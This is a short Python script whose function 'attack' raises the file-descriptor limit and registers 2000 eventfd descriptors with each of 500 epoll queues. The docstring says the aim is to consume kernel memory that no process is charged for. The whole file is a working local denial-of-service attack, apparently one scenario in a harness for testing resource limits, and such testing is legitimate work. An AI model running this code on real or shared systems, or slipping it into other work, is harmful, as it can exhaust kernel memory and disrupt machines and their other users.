"""Watches every descriptor many times: each watch costs the kernel memory that no process has."""

import os
import resource
import select

FILES, QUEUES = 2000, 500


def attack(world):
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    files = [os.eventfd(0) for _ in range(FILES)]
    queues = [select.epoll() for _ in range(QUEUES)]
    for queue in queues:
        for file in files:
            queue.register(file, select.EPOLLIN)
    return f"{FILES * QUEUES} watches"
